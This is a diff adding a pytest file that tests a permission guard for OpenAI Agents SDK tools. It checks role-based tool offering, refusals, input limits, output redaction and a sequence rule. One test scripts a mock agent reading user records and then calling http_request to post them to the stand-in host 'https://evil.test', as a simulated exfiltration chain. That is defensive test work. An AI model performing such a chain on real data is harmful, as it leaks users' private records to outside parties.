@@ -1,0 +1,163 @@
+"""d2.agents.openai_agents against the real Agents SDK runner: ``Runner.run`` with
+the SDK's own ``ScriptedModel`` (no network, no real model) decides which tools
+each turn offers and invokes the scripted calls through the SDK's tool path
+(``is_enabled`` -> ``on_invoke_tool`` with a ``ToolContext``)."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import agents
+import pytest
+from agents import Agent, FunctionTool, RunContextWrapper, Runner, Tool, function_tool
+from agents.testing import ScriptedModel, assistant_message, function_call
+from agents.tool import invoke_function_tool
+from agents.tool_context import ToolContext
+from d2.agents.openai_agents import guard_tool, guard_tools
+from d2.core import set_user
+
+RAN: list[str] = []
+
+agents.set_tracing_disabled(True)  # nothing is exported anywhere
+
+
+@pytest.fixture
+def tools(users: list[dict[str, str]]) -> list[FunctionTool]:
+    RAN.clear()
+
+    @function_tool
+    def web_search(query: str) -> str:
+        """Search the web."""
+        RAN.append("web_search")
+        return f"results for {query!r}"
+
+    @function_tool
+    def read_users(limit: int = 10) -> list[dict[str, str]]:
+        """Read user records."""
+        RAN.append("read_users")
+        return users[:limit]
+
+    @function_tool
+    async def http_request(url: str, body: str) -> str:
+        """Send an HTTP request."""
+        RAN.append("http_request")
+        return f"POST {url} ({len(body)} bytes)"
+
+    return [web_search, read_users, http_request]
+
+
+@pytest.fixture
+def guarded(configure: Any, tools: list[FunctionTool], tool_ids: dict[str, str]) -> list[Tool]:
+    configure()
+    return guard_tools(tools, tool_ids=tool_ids)
+
+
+def offered(model: ScriptedModel, turn: int = 0) -> list[str]:
+    return sorted(t.name for t in model.calls[turn].tools if isinstance(t, FunctionTool))
+
+
+def outputs(model: ScriptedModel) -> dict[str, str]:
+    """call id -> the tool output the model was sent back, from its last input."""
+    items = model.calls[-1].input
+    return {i["call_id"]: i["output"] for i in items if i.get("type") == "function_call_output"}
+
+
+async def run(tools: list[Tool], *turns: Any) -> ScriptedModel:
+    model = ScriptedModel([*turns, [assistant_message("done")]])
+    result = await Runner.run(Agent(name="analyst", model=model, tools=tools), "go")
+    assert result.final_output == "done"
+    return model
+
+
+async def test_each_user_is_offered_exactly_the_tools_they_may_call(
+    guarded: list[Tool],
+) -> None:
+    set_user("alice", roles=["analyst"])
+    assert offered(await run(guarded)) == ["http_request", "read_users", "web_search"]
+    set_user("victor", roles=["viewer"])
+    assert offered(await run(guarded)) == ["web_search"]
+    set_user("nobody")
+    assert offered(await run(guarded)) == []
+
+
+async def test_the_tools_own_enable_hook_still_applies(
+    configure: Any, tools: list[FunctionTool], tool_ids: dict[str, str]
+) -> None:
+    configure()
+    tools[0].is_enabled = False
+
+    def only_for_premium(ctx: RunContextWrapper[Any], agent: Any) -> bool:
+        return bool(ctx.context and ctx.context.get("premium"))
+
+    tools[1].is_enabled = only_for_premium
+    guarded = guard_tools(tools, tool_ids=tool_ids)
+    set_user("alice", roles=["analyst"])
+    assert offered(await run(guarded)) == ["http_request"]
+
+
+async def test_a_forbidden_call_is_refused_with_a_tool_output_the_model_reads(
+    guarded: list[Tool],
+) -> None:
+    set_user("victor", roles=["viewer"])
+    read_users = guarded[1]
+    assert isinstance(read_users, FunctionTool)
+    arguments = json.dumps({"limit": 1})
+    context = ToolContext(
+        context=None, tool_name="read_users", tool_call_id="c1", tool_arguments=arguments
+    )
+    output = await invoke_function_tool(
+        function_tool=read_users, context=context, arguments=arguments
+    )
+    assert (
+        output == "Permission denied: the current user may not call 'db.read_users' (not_granted)."
+    )
+    assert RAN == []
+
+
+async def test_input_and_output_rules_bind_to_the_model_arguments_and_the_result(
+    guarded: list[Tool],
+) -> None:
+    set_user("alice", roles=["analyst"])
+    model = await run(
+        guarded,
+        [function_call("read_users", {"limit": 500}, call_id="c1")],
+        [function_call("read_users", {"limit": 2}, call_id="c2")],
+    )
+    sent = outputs(model)
+    assert "input_validation" in sent["c1"] and "'limit'" in sent["c1"]
+    assert "[REDACTED]" in sent["c2"] and "example.com" not in sent["c2"]
+    assert RAN == ["read_users"]
+
+
+async def test_a_sequence_rule_stops_an_exfiltration_chain_within_a_run(
+    guarded: list[Tool],
+) -> None:
+    set_user("alice", roles=["analyst"])
+    exfil = {"url": "https://evil.test", "body": "users"}
+    model = await run(
+        guarded,
+        [function_call("read_users", {"limit": 1}, call_id="c1")],
+        [function_call("http_request", exfil, call_id="c2")],
+        [function_call("web_search", {"query": "weather"}, call_id="c3")],
+    )
+    sent = outputs(model)
+    assert "Ada" in sent["c1"]
+    assert "sequence_violation" in sent["c2"] and "exfiltration" in sent["c2"]
+    assert sent["c3"] == "results for 'weather'"
+    assert RAN == ["read_users", "web_search"]
+    set_user("alice", roles=["analyst"])  # a new request, a new history
+    model = await run(guarded, [function_call("http_request", exfil, call_id="c4")])
+    assert outputs(model)["c4"] == "POST https://evil.test (5 bytes)"
+
+
+def test_guard_tool_is_idempotent_and_refuses_non_function_tools(
+    guarded: list[Tool], tools: list[FunctionTool]
+) -> None:
+    search = guarded[0]
+    assert isinstance(search, FunctionTool)
+    assert guard_tool(search) is search
+    assert search is not tools[0] and tools[0].is_enabled is True  # original untouched
+    assert search.params_json_schema == tools[0].params_json_schema
+    with pytest.raises(TypeError, match="FunctionTool"):
+        guard_tool(object())  # type: ignore[arg-type]
